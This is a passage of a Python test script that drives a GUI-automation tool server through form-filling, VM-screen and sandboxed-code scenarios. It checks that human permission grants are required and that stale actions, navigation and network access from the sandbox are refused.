        out["observed"] = obs["aria_snapshot"]
        name = ref(obs, "textbox", "Name")
        action = {"type": "type", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": name}, "text": "Ada", "intent": "fill the name"}
        pending = await call(session, "act", {"action": action})
        out["pending"] = pending["header"]
        emit(out)
        sys.stdin.readline()  # the person grants the app
        typed = await call(session, "act", {"action": action})
        after = typed["page"]
        submit = ref(after, "button", "Submit")
        clicked = await call(session, "act", {"action": {"type": "click", "expected_frame_id": after["frame_id"], "target": {"kind": "element", "ref": submit}, "intent": "submit"}})
        stale = await call(session, "act", {"action": {"type": "click", "expected_frame_id": obs["frame_id"], "target": {"kind": "element", "ref": submit}, "intent": "stale"}})
        latest = (await call(session, "observe"))["page"]
        navigate = await call(session, "act", {"action": {"type": "navigate", "expected_frame_id": latest["frame_id"], "url": "https://example.org/", "intent": "leave"}})
        emit({"typed": typed["header"], "clicked": clicked["header"], "stale": stale["header"], "navigate": navigate["header"]})


async def scenario_script(args):
    """gui_exec through the official SDK: a form filled and submitted in one call, the page and
    locator kept for the next call, the sandbox refusing the network, bad arguments refused."""
    form, port = args.fixture[0], args.fixture[1]
    out = {}

    def details(result):
        return {"error": result["error"], "header": result["header"], "texts": result["texts"][1:], "images": result["images"]}

    async with connect(args) as (session, _):
        tools = await session.list_tools()
        out["listed"] = "gui_exec" in [t.name for t in tools.tools]
        await call(session, "tab_open", {"url": form})
        code = (
            "page = ui.page()\n"
            "name = page.get_by_role('textbox', name='Name')\n"
            "await name.fill('Ada')\n"
            "r = await page.get_by_role('button', name='Create account').click()\n"
            "obs = await page.wait_for_text('Welcome, Ada!')\n"
            "print(r.state, obs.title)\n"
            "display(await page.screenshot())"
        )
        out["form"] = details(await call(session, "gui_exec", {"code": code}))
        out["again"] = details(await call(session, "gui_exec", {"code": "print(name, page.name)"}))
        net = (
            "import socket\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
            f"s.connect(('127.0.0.1', {port}))"
        )
        out["network"] = details(await call(session, "gui_exec", {"code": net}))
        out["empty"] = details(await call(session, "gui_exec", {"code": ""}))
        out["unknown"] = details(await call(session, "gui_exec", {"code": "print(1)", "shell": True}))
    emit(out)


async def scenario_vm(args):
    """A VM guest's screen a person offered: claimed, seen in the turn's surfaces as a guest
    screen, observed with its image, clicked at a point once the person grants the guest; a
    stale frame and a navigation are refused with their codes."""
    out = {}
    async with connect(args) as (session, _):
        offered = (await call(session, "tabs"))["header"]["user_tabs"]
        out["offered"] = offered
        out["claimed"] = (await call(session, "tab_claim", {"tab": offered[0]}))["header"]
        out["surfaces"] = (await call(session, "surfaces"))["page"]
        obs = await call(session, "observe", {"screenshot": True})
        out["observed"] = obs["page"]["aria_snapshot"]
        out["images"] = obs["images"]
        frame = obs["header"]["frame_id"]
        action = {"type": "click", "expected_frame_id": frame, "target": {"kind": "point", "x": 81, "y": 91}, "intent": "click in the guest"}
        out["pending"] = (await call(session, "act", {"action": action}))["header"]
        emit(out)
        sys.stdin.readline()  # the person grants the guest
        clicked = await call(session, "act", {"action": action})
        stale = await call(session, "act", {"action": action})
        latest = await call(session, "observe")
        navigate = await call(session, "act", {"action": {"type": "navigate", "expected_frame_id": latest["header"]["frame_id"], "url": "https://example.org/", "intent": "leave"}})
        emit({"clicked": clicked["header"], "stale": stale["header"], "navigate": navigate["header"]})


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("scenario")
    parser.add_argument("--url")
    parser.add_argument("--token")
    parser.add_argument("--fixture", action="append", default=[])
    parser.add_argument("--iterations", type=int, default=50)
    parser.add_argument("--stdio", nargs=argparse.REMAINDER)
    args = parser.parse_args()
    asyncio.run(globals()[f"scenario_{args.scenario}"](args))


if __name__ == "__main__":
    main()
